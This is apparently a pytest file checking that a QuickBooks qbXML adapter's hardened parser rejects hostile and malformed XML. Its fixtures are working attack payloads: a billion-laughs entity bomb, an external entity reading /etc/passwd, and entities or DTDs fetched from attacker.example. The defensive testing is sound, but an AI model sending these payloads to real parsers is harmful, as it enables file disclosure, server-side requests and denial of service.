"""The hardened parser refuses hostile and broken XML with a clear UnsafeXmlError."""

from __future__ import annotations

import pytest

from adapters.quickbooks.qbxml.safe_xml import MAX_DEPTH, UnsafeXmlError, parse_untrusted

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<QBXML>&lol4;</QBXML>"""

FILE_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE QBXML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<QBXML><QBXMLMsgsRs><CustomerQueryRs statusCode="0" statusSeverity="Info"
statusMessage="&secret;"/></QBXMLMsgsRs></QBXML>"""

HTTP_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE QBXML [<!ENTITY remote SYSTEM "http://attacker.example/payload">]>
<QBXML>&remote;</QBXML>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE QBXML [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<QBXML/>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE QBXML SYSTEM "http://attacker.example/qbxml.dtd">
<QBXML/>"""

REFUSES_DTD = "DTDs and entity declarations are not accepted"


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, FILE_ENTITY, HTTP_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD],
    ids=["billion-laughs", "file-entity", "http-entity", "parameter-entity", "external-dtd"],
)
def test_dtds_and_entities_are_refused(document: str) -> None:
    with pytest.raises(UnsafeXmlError, match=REFUSES_DTD):
        parse_untrusted(document)
    with pytest.raises(UnsafeXmlError, match=REFUSES_DTD):
        parse_untrusted(document.encode())


@pytest.mark.parametrize("document", [BILLION_LAUGHS, FILE_ENTITY, EXTERNAL_DTD])
def test_declarations_hidden_by_utf16_are_still_refused(document: str) -> None:
    encoded = document.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    with pytest.raises(UnsafeXmlError, match=REFUSES_DTD):
        parse_untrusted(encoded.encode("utf-16"))


def test_lowercase_or_spaced_doctype_is_refused() -> None:
    with pytest.raises(UnsafeXmlError, match=REFUSES_DTD):
        parse_untrusted(b"<! doctype QBXML><QBXML/>")


def test_oversized_documents_are_refused_before_parsing() -> None:
    document = b"<QBXML>" + b"x" * 2048 + b"</QBXML>"
    with pytest.raises(UnsafeXmlError, match=r"of 2063 bytes refused: the limit is 1024 bytes"):
        parse_untrusted(document, max_bytes=1024)
    assert parse_untrusted(document, max_bytes=4096).tag == "QBXML"


def test_text_is_measured_in_utf8_bytes() -> None:
    document = "<a>" + "é" * 600 + "</a>"
    with pytest.raises(UnsafeXmlError, match="of 1207 bytes refused"):
        parse_untrusted(document, max_bytes=1024)


def test_too_deep_documents_are_refused() -> None:
    depth = MAX_DEPTH + 1
    document = "<a>" * depth + "</a>" * depth
    with pytest.raises(UnsafeXmlError, match=f"nested deeper than {MAX_DEPTH} levels"):
        parse_untrusted(document)
    at_limit = "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH
    assert parse_untrusted(at_limit).tag == "a"


@pytest.mark.parametrize(
    "document",
    [b"", b"   ", b"<QBXML>", b"<QBXML></qbxml>", b"<QBXML>&undefined;</QBXML>", b"\xff\xfe\x00"],
    ids=["empty", "blank", "unclosed", "mismatched", "undefined-entity", "garbage"],
)
def test_malformed_documents_are_refused(document: bytes) -> None:
    with pytest.raises(UnsafeXmlError, match="malformed XML"):
        parse_untrusted(document)


def test_wrong_input_type_is_refused() -> None:
    with pytest.raises(UnsafeXmlError, match="must be bytes or str, not int"):
        parse_untrusted(42)  # type: ignore[arg-type]


def test_ordinary_qbxml_parses_and_keeps_text() -> None:
    root = parse_untrusted(
        '<?xml version="1.0" encoding="utf-8"?><?qbxml version="13.0"?>'
        "<QBXML><!-- note --><QBXMLMsgsRs><X>Café &amp; Co</X></QBXMLMsgsRs></QBXML>"
    )
    assert root.tag == "QBXML"
    assert root.findtext("QBXMLMsgsRs/X") == "Café & Co"


def test_unsafe_xml_error_is_a_value_error() -> None:
    assert issubclass(UnsafeXmlError, ValueError)
